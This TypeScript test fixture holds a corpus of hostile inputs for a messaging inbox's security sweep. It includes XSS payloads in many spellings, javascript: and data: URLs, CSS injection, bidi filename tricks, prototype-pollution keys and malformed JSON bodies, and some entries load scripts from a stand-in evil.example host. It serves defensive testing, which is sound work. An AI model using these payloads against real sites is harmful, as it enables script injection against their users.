/**
 * The security sweep's corpus: hostile strings that every text field of every
 * dialect is fed (names, phones, message texts, captions, filenames, media
 * and avatar URLs, template names and variables, agent names), and malformed
 * JSON shapes for the adapters' lenient readers.
 *
 * Every executable payload calls `__pwned(<id>)` (or `alert`/`parent.__pwned`),
 * so a trap on `window` sees any of them run. Plain data, no DOM: usable from
 * browser tests and Node scripts alike.
 */

export type HostileCategory =
  | 'script'
  | 'event-handler'
  | 'svg-mathml'
  | 'frame-object'
  | 'url'
  | 'css'
  | 'bidi-zero-width'
  | 'long'
  | 'lit-marker'
  | 'prototype-key'
  | 'encoding'
  | 'whatsapp-format';

export interface HostileString {
  /** Stable id, also the argument the payload passes to `__pwned`. */
  id: number;
  category: HostileCategory;
  value: string;
}

const LONG = 100_000;

const RAW: Array<[HostileCategory, string]> = [
  // ---- script injection in many spellings -------------------------------------------------
  ['script', '<script>__pwned(1)</script>'],
  ['script', '<SCRIPT SRC=//evil.example/x.js?2></SCRIPT>'],
  ['script', '<scr<script>ipt>__pwned(3)</scr</script>ipt>'],
  ['script', '"><script>__pwned(4)</script>'],
  ['script', "'><script>__pwned(5)</script>"],
  ['script', '</textarea><script>__pwned(6)</script>'],
  ['script', '</title></option></select><script>__pwned(7)</script>'],
  ['script', '<ScRiPt>__pwned(8)</sCrIpT>'],
  ['script', '<script\ttype="text/javascript">__pwned(9)</script>'],
  ['script', '<script>alert(String.fromCharCode(88,83,83))</script>'],
  ['script', '<script/src="data:text/javascript,__pwned(11)"></script>'],
  // ---- event handlers ------------------------------------------------------------------------
  ['event-handler', '<img src=x onerror=__pwned(12)>'],
  ['event-handler', '<img src="x" onerror="__pwned(13)">'],
  ['event-handler', '<IMG SRC=x ONERROR=__pwned(14)>'],
  ['event-handler', '<img src=x onerror=&#95;&#95;pwned(15)>'],
  ['event-handler', '<img/src=x/onerror=__pwned(16)>'],
  ['event-handler', '<body onload=__pwned(17)>'],
  ['event-handler', '<div onmouseover="__pwned(18)" style="position:fixed;inset:0">hover</div>'],
  ['event-handler', '<input autofocus onfocus=__pwned(19)>'],
  ['event-handler', '<details open ontoggle=__pwned(20)>'],
  ['event-handler', '<video><source onerror="__pwned(21)"></video>'],
  ['event-handler', '<audio src=x onerror=__pwned(22)>'],
  ['event-handler', '" onmouseover="__pwned(23)" x="'],
  ['event-handler', "' onfocus='__pwned(24)' autofocus='"],
  ['event-handler', '<marquee onstart=__pwned(25)>x</marquee>'],
  ['event-handler', '<a href="https://example.com" onclick="__pwned(26)">click</a>'],
  ['event-handler', '<img src=x onerror\t=\t__pwned(27)>'],
  ['event-handler', '<select autofocus onfocus=__pwned(28)></select>'],
  // ---- SVG and MathML -------------------------------------------------------------------------
  ['svg-mathml', '<svg onload=__pwned(29)>'],
  ['svg-mathml', '<svg><script>__pwned(30)</script></svg>'],
  ['svg-mathml', '<svg><animate onbegin=__pwned(31) attributeName=x dur=1s>'],
  ['svg-mathml', '<svg><a xlink:href="javascript:__pwned(32)"><text x="20" y="20">x</text></a></svg>'],
  ['svg-mathml', '<svg><foreignObject><img src=x onerror=__pwned(33)></foreignObject></svg>'],
  ['svg-mathml', '<math><mtext><table><mglyph><style><img src=x onerror=__pwned(34)>'],
  ['svg-mathml', '<math href="javascript:__pwned(35)">CLICK</math>'],
  [
    'svg-mathml',
    `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='__pwned(36)'/></svg>#x"/></svg>`,
  ],
  // ---- frames, objects, forms, meta -----------------------------------------------------------
  ['frame-object', '<iframe srcdoc="<script>parent.__pwned(37)</script>"></iframe>'],
  ['frame-object', '<iframe src="javascript:parent.__pwned(38)"></iframe>'],
  ['frame-object', '<object data="javascript:__pwned(39)"></object>'],
  ['frame-object', '<embed src="javascript:__pwned(40)">'],
  ['frame-object', '<iframe srcdoc="&lt;img src=x onerror=parent.__pwned(41)&gt;"></iframe>'],
  ['frame-object', '<form action="javascript:__pwned(42)"><button>go</button></form>'],
  ['frame-object', '<template shadowrootmode="open"><img src=x onerror=__pwned(43)></template>'],
  ['frame-object', '<meta http-equiv="refresh" content="0;url=javascript:__pwned(44)">'],
  ['frame-object', '<base href="javascript:__pwned(45)//">'],
  ['frame-object', '<link rel=import href="data:text/html,<script>__pwned(46)</script>">'],
  // ---- URLs: javascript:, data:, vbscript: in every case, with whitespace and entities ---------
  ['url', 'javascript:__pwned(47)'],
  ['url', 'JAVASCRIPT:__pwned(48)'],
  ['url', 'JaVaScRiPt:__pwned(49)'],
  ['url', ' javascript:__pwned(50)'],
  ['url', '\tjava\tscript:__pwned(51)'],
  ['url', 'java\nscript:__pwned(52)'],
  ['url', 'java\u0000script:__pwned(53)'],
  ['url', '&#106;avascript:__pwned(54)'],
  ['url', 'javascript&colon;__pwned(55)'],
  ['url', 'jav&#x09;ascript:__pwned(56)'],
  ['url', '\u0001\u0002javascript:__pwned(57)'],
  ['url', 'data:text/html,<script>__pwned(58)</script>'],
  ['url', 'DATA:text/html;base64,PHNjcmlwdD5fX3B3bmVkKDU5KTwvc2NyaXB0Pg=='],
  ['url', 'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="__pwned(60)"/>'],
  ['url', ' Data:image/png;base64,iVBORw0KGgo='],
  ['url', 'vbscript:msgbox(62)'],
  ['url', 'VBScript:MsgBox(63)'],
  ['url', 'blob:https://evil.example/3b0c4a5e-0000-4000-8000-000000000064'],
  ['url', 'file:///etc/passwd'],
  ['url', '//evil.example/66.png'],
  ['url', 'https://example.com/67.png" onerror="__pwned(67)'],
  ['url', 'https://example.com/?q=<script>__pwned(68)</script>&x=\'"><img src=x onerror=__pwned(68)>'],
  ['url', 'https://evil.example/<svg/onload=__pwned(69)>'],
  ['url', 'https://user:pass@evil.example:8443/70.png#"><script>__pwned(70)</script>'],
  ['url', '[click](javascript:__pwned(71))'],
  // ---- CSS injection ----------------------------------------------------------------------------
  ['css', '</style><script>__pwned(72)</script>'],
  ['css', "<style>@import 'https://evil.example/73.css';</style>"],
  ['css', '<style>*{background:url(javascript:__pwned(74))}</style>'],
  ['css', 'width: expression(__pwned(75))'],
  ['css', 'background:url("javascript:__pwned(76)")'],
  ['css', '<div style="background-image:url(javascript:__pwned(77))">x</div>'],
  ['css', '}</style><style>:host{display:none!important}*{visibility:hidden}</style>'],
  ['css', 'x{}*{color:red;behavior:url(#default#time2)} @import url(//evil.example/79.css);'],
  ['css', '<link rel=stylesheet href=https://evil.example/80.css>'],
  ['css', '--inbox-color-surface: url(javascript:__pwned(81)); }:host{background:red'],
  // ---- bidi overrides and zero-width characters -------------------------------------------------
  ['bidi-zero-width', '\u202Egnp.exe'],
  ['bidi-zero-width', 'Invoice\u202Efdp.exe'],
  ['bidi-zero-width', 'a\u2066b\u2067c\u2068d\u2069e\u202Af\u202Bg\u202Ch\u202Di'],
  ['bidi-zero-width', 'z\u200Be\u200Cr\u200Do\u2060w\uFEFFidth'],
  ['bidi-zero-width', '\u200B'],
  ['bidi-zero-width', '\u061C\u200E\u200F mixed \u05D0\u05D1\u05D2 abc \u0627\u0644\u0639'],
  [
    'bidi-zero-width',
    'Z\u0337\u0322\u031B\u032F\u033C\u0347\u031C\u0325\u0323\u0317\u032D\u0348\u0355\u0353a\u0337\u0300\u030C\u0346l\u0334\u0301g\u0335\u0308o\u0336\u0315',
  ],
  ['bidi-zero-width', '\uD800 lone surrogate \uDFFF'],
  ['bidi-zero-width', 'ctl\u0001\u0008\u001F\u007F\u0085chars'],
  // ---- very long strings (100 kB) ------------------------------------------------------------------
  ['long', 'A'.repeat(LONG)],
  ['long', '<img src=x onerror=__pwned(92)>'.repeat(Math.ceil(LONG / 31))],
  ['long', `https://example.com/${'a'.repeat(LONG)}`],
  ['long', `${'\u202E\u200B'.repeat(LONG / 2)}`],
  // ---- Lit markers and template lookalikes ---------------------------------------------------------
  ['lit-marker', '<!--?lit$123456789$-->'],
  ['lit-marker', 'lit$123456789$'],
  ['lit-marker', '<?lit$123456789$><img src=x onerror=__pwned(97)>'],
  ['lit-marker', '<!--?lit$0$--><img src=x onerror=__pwned(98)>'],
  ['lit-marker', '${__pwned(99)}'],
  ['lit-marker', "{{constructor.constructor('__pwned(100)')()}}"],
  ['lit-marker', '<!--'],
  ['lit-marker', ']]><script>__pwned(102)</script><![CDATA['],
  ['lit-marker', '`;__pwned(103);`'],
  ['lit-marker', '{{__proto__}} {{constructor}} {{1}}'],
  // ---- prototype-pollution keys ---------------------------------------------------------------------
  ['prototype-key', '__proto__'],
  ['prototype-key', 'constructor'],
  ['prototype-key', 'prototype'],
  ['prototype-key', 'toString'],
  ['prototype-key', 'hasOwnProperty'],
  ['prototype-key', '__defineGetter__'],
  ['prototype-key', 'valueOf'],
  ['prototype-key', '{"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}}}'],
  // ---- encodings --------------------------------------------------------------------------------------
  ['encoding', '%3Cscript%3E__pwned(113)%3C%2Fscript%3E'],
  ['encoding', '&lt;script&gt;__pwned(114)&lt;/script&gt;'],
  ['encoding', '\\u003cscript\\u003e__pwned(115)\\u003c/script\\u003e'],
  ['encoding', '+1 (555) <img src=x onerror=__pwned(116)>'],
  ['encoding', '\uFF1Cscript\uFF1E__pwned(117)\uFF1C/script\uFF1E'],
  // ---- WhatsApp formatting around payloads --------------------------------------------------------------
  ['whatsapp-format', '*<img src=x onerror=__pwned(118)>*'],
  ['whatsapp-format', '```<script>__pwned(119)</script>```'],
  ['whatsapp-format', '> <iframe srcdoc="<script>parent.__pwned(120)</script>"></iframe>'],
  ['whatsapp-format', '- _<svg onload=__pwned(121)>_\n- ~<b>x</b>~\n1. `<i>y</i>`'],
  ['whatsapp-format', 'see https://example.com/"><script>__pwned(122)</script> and javascript:__pwned(122)'],
];

/** The corpus: every hostile string with its id and category. */
export const HOSTILE_STRINGS: readonly HostileString[] = RAW.map(([category, value], i) => ({
  id: i + 1,
  category,
  value,
}));

/** Just the strings. */
export const HOSTILE: readonly string[] = HOSTILE_STRINGS.map((h) => h.value);

/**
 * Strings for URL fields (media, avatars): every `url` payload, plus http(s)
 * URLs carrying markup (those are allowed through, but only as attribute values).
 */
export const HOSTILE_URLS: readonly string[] = HOSTILE_STRINGS.filter(
  (h) => h.category === 'url' || /^\s*[a-z]+:/i.test(h.value),
).map((h) => h.value);

/** Keys that pollute prototypes when an object is built from untrusted keys. */
export const PROTOTYPE_KEYS = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'valueOf'];

/** JSON values of the wrong type, for "every field gets every wrong type". */
export const WRONG_TYPES: readonly unknown[] = [
  null,
  0,
  -1.5,
  1e308,
  true,
  '',
  'not-the-right-type',
  [],
  [null, 1, 'x'],
  {},
  { nested: { deeper: [1, { deepest: null }] } },
  JSON.parse('{"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}}}') as unknown,
];

/** Whole records that are not records at all. */
export const NOT_RECORDS: readonly unknown[] = [
  null,
  true,
  false,
  0,
  42,
  -1,
  '',
  'conversation',
  [],
  [{ id: 'nested-in-array' }],
  {},
  { id: null },
  { id: {} },
  { id: [] },
  { id: true },
  { id: '' },
  JSON.parse('{"__proto__":{"polluted":true}}') as unknown,
  nest(200),
];

/** Raw response bodies (sent as `application/json`) that are not the envelope a list or thread expects. */
export const MALFORMED_BODIES: ReadonlyArray<{ label: string; text: string }> = [
  { label: 'null', text: 'null' },
  { label: 'a number', text: '42' },
  { label: 'a string', text: '"ok"' },
  { label: 'an empty array', text: '[]' },
  { label: 'an array of garbage', text: '[null,1,"x",[],{}]' },
  { label: 'an empty object', text: '{}' },
  {
    label: 'objects where arrays are expected',
    text: '{"data":{},"items":{},"conversations":{},"messages":{},"meta":[]}',
  },
  { label: 'nested garbage', text: '{"data":[[[]]],"items":[{"items":[{}]}],"conversations":"x","messages":7}' },
  { label: 'an empty body', text: '' },
  {
    label: 'raw HTML',
    text: '<html><body><img src=x onerror=__pwned(900)><script>__pwned(901)</script></body></html>',
  },
  { label: 'truncated JSON', text: '{"conversations":[{"id":"abc","name":"<img src=x onerror=__pwned(902)>"' },
  {
    label: 'prototype pollution',
    text: '{"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}},"data":[],"items":[],"conversations":[],"messages":[]}',
  },
];

function nest(depth: number): unknown {
  let value: unknown = { id: 'deep' };
  for (let i = 0; i < depth; i++) value = i % 2 ? [value] : { id: `level-${i}`, child: value };
  return value;
}
